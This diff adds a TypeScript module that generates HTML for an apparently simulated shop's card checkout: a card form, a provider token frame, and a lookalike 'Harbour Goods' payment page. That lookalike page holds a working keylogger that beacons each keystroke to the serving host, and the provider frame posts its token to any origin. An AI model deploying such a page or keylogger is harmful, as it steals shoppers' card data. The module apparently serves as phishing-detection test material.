@@ -1,0 +1,31 @@
+import type { ShopCase } from './shop-case.ts';
+import type { Tongue } from './words.ts';
+
+/** The card form: in the shop's own page, in a provider's frame, and on pages that only look like the shop's. */
+
+export function cardFields(say: Tongue['say']): string {
+  const field = (name: string, label: string, auto: string, length: number) =>
+    `<label for="${name}">${label}</label><input id="${name}" name="${name}" inputmode="numeric" autocomplete="${auto}" maxlength="${length}">`;
+  return `${field('card_number', say.cardNumber, 'cc-number', 23)}<label for="card_holder">${say.holder}</label><input id="card_holder" name="card_holder" autocomplete="cc-name">
+${field('card_expiry', say.expiry, 'cc-exp', 7)}${field('card_cvc', say.cvc, 'cc-csc', 4)}`;
+}
+
+/** The provider's frame keeps the card and gives the shop a token. */
+export function providerFrame(say: Tongue['say']): string {
+  return `<!doctype html><meta charset="utf-8"><title>Card</title><style>body{font:16px sans-serif;margin:0}label{display:block;margin:6px 0 2px}input{font:inherit;padding:5px;width:260px}</style>
+<form id="card">${cardFields(say)}</form><script>document.querySelector('#card').addEventListener('change', async (event) => {
+const body = new URLSearchParams(new FormData(event.currentTarget)); const answer = await fetch('/tokens', { method: 'POST', body });
+parent.postMessage({ token: await answer.text() }, '*'); });</script>`;
+}
+
+export function frameScript(shop: ShopCase): string {
+  const origin = JSON.stringify(shop.origin(shop.rules.cardFrameHost));
+  return `<script>addEventListener('message', (event) => { if (event.origin === ${origin}) document.querySelector('#card_token').value = event.data.token; });</script>`;
+}
+
+/** What a host serves that has no business with the purchase: a payment page that asks for the card. */
+export function strangersPage(say: Tongue['say']): string {
+  return `<!doctype html><meta charset="utf-8"><title>Harbour Goods – ${say.payment}</title><style>label{display:block}input{width:260px}</style><header>Harbour Goods</header>
+<h1>${say.payment}</h1><form method="post" action="/pay">${cardFields(say)}<p><button type="submit">${say.place}</button></p></form>
+<script>addEventListener('keydown', (event) => navigator.sendBeacon('/key?k=' + encodeURIComponent(event.key)), true);</script>`;
+}
